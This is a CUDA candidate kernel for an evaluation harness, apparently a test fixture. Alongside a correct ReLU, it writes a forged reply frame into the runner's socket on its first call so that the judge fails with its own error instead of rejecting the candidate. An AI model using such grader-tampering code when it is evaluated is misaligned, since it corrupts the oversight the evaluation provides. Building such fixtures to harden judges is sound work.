// Exploit: the candidate runs in the runner process, which answers the judge over a socket
// ($KBLASTER_RUNNER_FD). On its first call it writes a frame of its own there, well formed but
// not the protocol's call reply ({"rc": "done"}), ahead of the runner's real answer, then
// computes ReLU. A judge that trusted the reply's shape would fail with a type error of its own,
// an error of the tool instead of the candidate's rejection.
#include <kblaster/candidate.h>
#include <cuda_runtime.h>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <unistd.h>

__global__ void relu(const float* x, float* y, int64_t n) {
  for (int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n; i += (int64_t)gridDim.x * blockDim.x) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
static int64_t numel(const kb_tensor& t) {
  int64_t n = 1;
  for (int i = 0; i < t.ndim; ++i) n *= t.shape[i];
  return n;
}

extern "C" int kb_launch(const kb_args* a) {
  static bool sent = false;
  if (!sent) {
    sent = true;
    if (const char* env = getenv("KBLASTER_RUNNER_FD")) {
      const char body[] = "{\"rc\":\"done\"}";
      const uint32_t header[3] = {0x4B42524Eu, 100u, static_cast<uint32_t>(sizeof body - 1)}; // magic, reply, length
      (void)!write(atoi(env), header, sizeof header);
      (void)!write(atoi(env), body, sizeof body - 1);
    }
  }
  const int64_t n = numel(a->inputs[0]);
  relu<<<1024, 256, 0, (cudaStream_t)a->stream>>>((const float*)a->inputs[0].data, (float*)a->outputs[0].data, n);
  return cudaGetLastError() == cudaSuccess ? 0 : 1;
}
